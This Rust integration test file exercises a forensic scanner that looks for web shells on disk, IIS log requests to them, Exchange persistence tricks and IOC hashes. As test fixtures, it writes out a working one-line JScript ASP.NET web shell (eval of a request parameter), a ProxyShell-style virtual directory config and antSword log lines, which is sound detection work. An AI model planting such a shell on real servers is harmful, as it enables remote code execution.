//! The file sweep through the real binary: web shells on disk (the real
//! tennc shells), benign pages, the IIS request tie, size caps, links and
//! the user's YARA rules.

mod common;

use common::*;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use tempfile::TempDir;

fn yara_data() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../yara/tests/data")
}

#[path = "../../yara/tests/support/samples.rs"]
mod support;
use support::samples;

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

fn scan_args(args: &[&str]) -> Run {
    let mut all = vec!["scan"];
    all.extend_from_slice(args);
    run_json(&all)
}

fn at<'a>(r: &'a Run, path: &str) -> Vec<&'a Value> {
    r.findings().iter().filter(|f| f["path"] == path).collect()
}

#[test]
fn every_tennc_shell_is_found_wherever_it_is() {
    let dir = TempDir::new().unwrap();
    let shells = samples(&yara_data().join("tennc-webshell"));
    // Outside any web folder: only the content can tell.
    for (name, bytes) in &shells {
        write(dir.path(), &format!("loot/{name}"), bytes);
    }
    let r = scan(&[dir.path()]);
    assert_eq!(r.verdict(), "compromised");
    for (name, _) in &shells {
        let path = format!("loot/{name}");
        let hits = at(&r, &path);
        assert!(
            hits.iter().any(|f| f["kind"] == "webshell"
                && f["severity"] != "info"
                && f["evidence"]["yara_rule"].is_string()
                && f["evidence"]["sha256"]
                    .as_str()
                    .is_some_and(|s| s.len() == 64)),
            "{name}: no YARA web-shell finding: {hits:#?}"
        );
    }
    assert_eq!(
        r.report["stats"]["files_content_scanned"],
        shells.len() as u64
    );
}

#[test]
fn benign_pages_give_nothing() {
    let dir = TempDir::new().unwrap();
    let pages = samples(&yara_data().join("benign-pages"));
    for (name, bytes) in &pages {
        write(dir.path(), &format!("site/{name}"), bytes);
    }
    let r = scan(&[dir.path()]);
    assert!(
        r.unraised(),
        "{} {}",
        r.verdict(),
        r.report["why_inconclusive"]
    );
    // Pages outside a web folder and no log: nothing to judge (5).
    assert_eq!(r.code, if r.verdict() == "clean" { 0 } else { 5 });
    // No content rule fires; the only mention allowed is the `info` lead
    // for a memory dump under ProgramData (here Windows Error Reporting's).
    for f in r.findings() {
        assert!(
            f["rule"] == "memory-dump-suspicious-place" && f["severity"] == "info",
            "{f:#}"
        );
    }
    assert!(!r
        .findings()
        .iter()
        .any(|f| f["evidence"]["yara_rule"].is_string()));
}

#[test]
fn shell_in_aspnet_client_and_its_request_in_the_iis_log_are_tied() {
    let dir = TempDir::new().unwrap();
    let shell = br#"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#;
    write(
        dir.path(),
        "inetpub/wwwroot/aspnet_client/system_web/Xc9Kd2Lm.aspx",
        shell,
    );
    let log = "#Software: Microsoft Internet Information Services 10.0\r\n\
#Version: 1.0\r\n\
#Date: 2021-03-04 00:00:00\r\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
2021-03-04 01:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.20 Mozilla/5.0 - 200 0 0 15\r\n\
2021-03-04 02:13:07 10.0.0.5 POST /aspnet_client/system_web/Xc9Kd2Lm.aspx - 443 - 203.0.113.9 antSword/v2.1 - 200 0 0 31\r\n\
2021-03-04 02:20:00 10.0.0.5 GET /aspnet_client/system_web/xc9kd2lm.aspx - 443 - 203.0.113.9 curl/7.1 - 404 0 2 3\r\n";
    write(
        dir.path(),
        "inetpub/logs/LogFiles/W3SVC1/u_ex210304.log",
        log.as_bytes(),
    );
    let r = scan(&[dir.path()]);
    assert_eq!(r.verdict(), "compromised");
    let file = "inetpub/wwwroot/aspnet_client/system_web/Xc9Kd2Lm.aspx";
    let on_disk = at(&r, file);
    assert!(
        on_disk
            .iter()
            .any(|f| f["rule"] == "webshell-aspnet-client" && f["severity"] == "high"),
        "{on_disk:#?}"
    );
    let req = r.rule("webshell-requested");
    assert_eq!(req.len(), 2, "{:#?}", r.findings());
    let served = req
        .iter()
        .find(|f| f["evidence"]["sc-status"] == "200")
        .unwrap();
    assert_eq!(served["severity"], "critical");
    assert_eq!(served["time"], "2021-03-04T02:13:07Z");
    assert_eq!(served["evidence"]["web_shell_file"], file);
    let failed = req
        .iter()
        .find(|f| f["evidence"]["sc-status"] == "404")
        .unwrap();
    assert_eq!(failed["verdict"], "attempted");
    // The request finding names the file finding among its related ones.
    let ids: Vec<&Value> = on_disk.iter().map(|f| &f["id"]).collect();
    let related = served["related"].as_array().unwrap();
    assert!(
        ids.iter().any(|id| related.contains(id)),
        "{served:#?} vs {ids:?}"
    );
    // The next steps name the file.
    assert!(r.report["next_steps"].as_array().unwrap().iter().any(|s| s
        .as_str()
        .unwrap()
        .starts_with(
        "Web shell file(s) found on disk: inetpub/wwwroot/aspnet_client/system_web/Xc9Kd2Lm.aspx"
    )));
    // The stock logon page request is not tied to anything.
    assert!(!r
        .findings()
        .iter()
        .any(|f| f["evidence"]["cs-uri-stem"] == "/owa/auth/logon.aspx"));
}

#[test]
fn large_files_and_links_are_named_as_skipped() {
    let dir = TempDir::new().unwrap();
    write(dir.path(), "data/big.bin", &vec![b'a'; 4096]);
    write(dir.path(), "data/small.txt", b"hello");
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("data/link")).unwrap();
    let r = scan_args(&[dir.path().to_str().unwrap(), "--max-filesize", "1K"]);
    let skipped = r.report["skipped"].as_array().unwrap();
    let big = skipped
        .iter()
        .find(|s| s["path"] == "data/big.bin")
        .expect("big.bin listed");
    assert!(big["reason"].as_str().unwrap().contains("--max-filesize"));
    #[cfg(unix)]
    {
        let link = skipped
            .iter()
            .find(|s| s["path"] == "data/link")
            .expect("link listed");
        assert!(link["reason"].as_str().unwrap().contains("never followed"));
    }
    assert!(!skipped.iter().any(|s| s["path"] == "data/small.txt"));
    // Skipping on purpose is not an error. (Loose files outside any web
    // folder and no log: nothing exhunt can judge, so inconclusive.)
    assert_eq!(r.report["incomplete"], false);
    assert_eq!(r.verdict(), "inconclusive");
    assert_eq!(r.code, 5);
}

#[test]
fn users_yara_rules_load_and_a_broken_file_is_reported() {
    let rules = TempDir::new().unwrap();
    write(
        rules.path(),
        "mine/marker.yar",
        br#"rule Acme_Marker { meta: description = "acme marker" score = 85 strings: $a = "ACME-IMPLANT-7" condition: $a }"#,
    );
    write(
        rules.path(),
        "mine/broken.yar",
        b"rule broken { condition: no_such_thing }",
    );
    let dir = TempDir::new().unwrap();
    write(dir.path(), "tools/x.dll", b"MZ....ACME-IMPLANT-7....");
    let r = scan_args(&[
        dir.path().to_str().unwrap(),
        "--yara",
        rules.path().to_str().unwrap(),
    ]);
    let f = r.rule("yara:Acme_Marker");
    assert_eq!(f.len(), 1, "{:#?}", r.findings());
    assert_eq!(f[0]["severity"], "high");
    assert_eq!(f[0]["title"], "acme marker");
    let loads: Vec<&Value> = r.report["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["engine"] == "yara")
        .collect();
    let broken = loads
        .iter()
        .find(|l| l["origin"].as_str().unwrap().ends_with("broken.yar"))
        .unwrap();
    assert_eq!(broken["status"], "skipped");
    assert!(broken["reason"].as_str().unwrap().contains("no_such_thing"));
    assert!(loads
        .iter()
        .any(|l| l["origin"].as_str().unwrap().starts_with("bundled:") && l["status"] == "loaded"));
    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
}

#[test]
fn indicators_by_path_and_by_users_hash_list() {
    let dir = TempDir::new().unwrap();
    // A path from Microsoft's MSTIC list, with harmless content.
    let v15 = "Program Files/Microsoft/Exchange Server/V15";
    let listed = format!("{v15}/FrontEnd/HttpProxy/owa/auth/8Lw7tAhF9i1pJnRo.aspx");
    write(dir.path(), &listed, b"<html><body>hello</body></html>");
    // A tool known to the user only by its hash.
    let tool = b"\x4d\x5a some tool the responder has seen elsewhere";
    write(dir.path(), "Windows/Temp/svc.exe", tool);
    write(dir.path(), "Windows/Temp/other.exe", b"MZ another file");
    use sha2::Digest;
    let sha: String = sha2::Sha256::digest(tool)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let list = TempDir::new().unwrap();
    let ioc_file = list.path().join("case-hashes.txt");
    fs::write(
        &ioc_file,
        format!("# case 42\n{sha}  svc.exe\nnot-a-hash-line\n"),
    )
    .unwrap();
    let r = scan_args(&[
        dir.path().to_str().unwrap(),
        "--iocs",
        ioc_file.to_str().unwrap(),
    ]);
    assert_eq!(r.verdict(), "compromised");
    let p = r.rule("ioc-path");
    assert_eq!(p.len(), 1, "{:#?}", r.findings());
    assert_eq!(p[0]["path"], listed.as_str());
    assert_eq!(p[0]["severity"], "high");
    assert!(
        p[0]["source"].as_str().unwrap().contains("MSTIC"),
        "{:#}",
        p[0]
    );
    let h = r.rule("ioc-sha256");
    assert_eq!(h.len(), 1, "{:#?}", r.findings());
    assert_eq!(h[0]["path"], "Windows/Temp/svc.exe");
    assert_eq!(h[0]["evidence"]["sha256"], sha.as_str());
    // The unusable line is named, and the scan went on.
    assert!(r.stderr.contains("case-hashes.txt:3"), "{}", r.stderr);
    let loads: Vec<&Value> = r.report["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["engine"] == "iocs")
        .collect();
    assert_eq!(loads.len(), 2, "{loads:#?}");
}

#[test]
fn shell_code_quoted_in_a_write_up_is_only_a_lead() {
    let dir = TempDir::new().unwrap();
    let quote = "# Incident notes\n\nThe shell was `<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>`.\n";
    write(dir.path(), "case/notes.md", quote.as_bytes());
    let r = scan(&[dir.path()]);
    assert!(
        r.unraised(),
        "{} {}",
        r.verdict(),
        r.report["why_inconclusive"]
    );
    let f = at(&r, "case/notes.md");
    assert!(
        !f.is_empty() && f.iter().all(|f| f["severity"] == "info"),
        "{f:#?}"
    );
    // The same text as a page in the web root is a finding.
    write(dir.path(), "inetpub/wwwroot/notes.aspx", quote.as_bytes());
    let r = scan(&[dir.path()]);
    assert_eq!(r.verdict(), "compromised");
}

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

#[test]
fn exchange_tree_places_configs_and_compiled_pages() {
    let dir = TempDir::new().unwrap();
    let v15 = "Program Files/Microsoft/Exchange Server/V15";
    // Microsoft's real web.configs (Health Checker test data) where Exchange
    // keeps them: nothing to say.
    let cfg = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../detect/tests/data/css-exchange-benign-config");
    for (file, place) in [
        (
            "DefaultWebSite-ECP_web.config",
            "FrontEnd/HttpProxy/ecp/web.config",
        ),
        (
            "DefaultWebSite-OAB_web.config",
            "FrontEnd/HttpProxy/OAB/web.config",
        ),
        (
            "DefaultWebSite-OWA_web.config",
            "FrontEnd/HttpProxy/owa/web.config",
        ),
        (
            "ExchangeBackEnd-OAB_web.config",
            "ClientAccess/OAB/web.config",
        ),
    ] {
        write(
            dir.path(),
            &format!("{v15}/{place}"),
            &fs::read(cfg.join(file)).unwrap(),
        );
    }
    // A page no build ships, in owa\auth, with harmless content.
    let odd = format!("{v15}/FrontEnd/HttpProxy/owa/auth/errorPages2.aspx");
    write(
        dir.path(),
        &odd,
        b"<%@ Page Language=\"C#\" %><html><body>Sorry.</body></html>",
    );
    // ProxyShell persistence: a virtual directory served from ProgramData.
    let app_host = r#"<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
        </application>
        <application path="/aspnet_client/system_web" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="C:\ProgramData\COM\" />
        </application>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
"#;
    write(
        dir.path(),
        "Windows/System32/inetsrv/config/applicationHost.config",
        app_host.as_bytes(),
    );
    // A malformed web.config under inetpub: named, the scan goes on.
    write(
        dir.path(),
        "inetpub/wwwroot/web.config",
        b"<configuration><system.webServer>",
    );
    // The compiled form of a shell requested from aspnet_client.
    let mut dll = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    dll.extend_from_slice(&[0u8; 120]);
    dll.extend(utf16("~/aspnet_client/system_web/Xc9Kd2Lm.aspx"));
    dll.extend_from_slice(b"\x00\x00JScriptEvaluate\x00");
    let compiled = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a2b3c4d/5e6f7a8b/App_Web_xc9kd2lm.aspx.cdcab7d2.dll";
    write(dir.path(), compiled, &dll);

    let r = scan(&[dir.path()]);
    assert_eq!(r.verdict(), "compromised");
    assert!(at(&r, &odd)
        .iter()
        .any(|f| f["rule"] == "webshell-exchange-auth-folder" && f["severity"] == "high"));
    let vd = r.rule("iis-vdir-programdata-users");
    assert_eq!(vd.len(), 1, "{:#?}", r.findings());
    assert!(
        at(&r, compiled)
            .iter()
            .any(|f| f["rule"] == "webshell-compiled-aspnet"),
        "{:#?}",
        at(&r, compiled)
    );
    for f in r.findings() {
        assert!(
            !f["path"].as_str().unwrap().ends_with("web.config"),
            "benign config flagged: {f:#}"
        );
    }
    let errs = r.errors();
    assert!(
        errs.iter()
            .any(|e| e["path"] == "inetpub/wwwroot/web.config"
                && e["message"].as_str().unwrap().contains("not well-formed")),
        "{errs:#?}"
    );
    assert_eq!(r.report["incomplete"], true);
    assert_eq!(r.code, 31);
}
